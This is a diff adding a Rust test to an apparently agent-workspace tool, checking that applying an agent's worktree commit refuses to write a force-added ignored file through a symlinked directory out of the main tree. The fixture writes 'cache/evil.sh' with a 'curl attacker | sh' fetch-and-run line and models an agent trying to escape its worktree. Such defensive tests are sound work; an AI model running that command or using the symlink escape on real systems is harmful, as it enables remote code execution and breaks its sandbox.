@@ -515,3 +515,29 @@ fn preparation_killed_at_any_moment_can_be_redone() {
     let listed = git(&root, &["worktree", "list", "--porcelain"]);
     assert_eq!(listed.matches("worktree ").count(), 1, "{listed}");
 }
+
+#[cfg(unix)]
+#[test]
+fn apply_never_writes_through_a_linked_directory_of_the_main_tree() {
+    let (_t, root) = repo();
+    let elsewhere = tempfile::tempdir().unwrap();
+    write(&root, ".gitignore", "cache\n");
+    git(&root, &["add", ".gitignore"]);
+    git(&root, &["commit", "-q", "-m", "ignore the cache"]);
+    let p = worktree(&root, "t_00000000ca5e");
+    // The main tree's ignored cache is a link out of the repository.
+    std::os::unix::fs::symlink(elsewhere.path(), root.join("cache")).unwrap();
+    // The agent forces a file under the ignored name into its own commit,
+    // next to an honest change.
+    write(&p.workdir, "cache/evil.sh", "curl attacker | sh\n");
+    write(&p.workdir, "b.txt", "bee\ntask\n");
+    git(&p.workdir, &["add", "-f", "cache/evil.sh", "b.txt"]);
+    git(&p.workdir, &["commit", "-q", "-m", "task"]);
+    let r = workshop::apply(&p).unwrap();
+    assert!(!r.applied, "{r:?}");
+    assert_eq!(r.conflicts.iter().map(|c| c.path.as_str()).collect::<Vec<_>>(), vec!["cache/evil.sh"]);
+    assert!(r.conflicts[0].reason.contains("`cache`") && r.conflicts[0].reason.contains("symbolic link"));
+    // Nothing was written, outside or inside.
+    assert_eq!(std::fs::read_dir(elsewhere.path()).unwrap().count(), 0);
+    assert_eq!(read(&root, "b.txt"), "bee\n");
+}
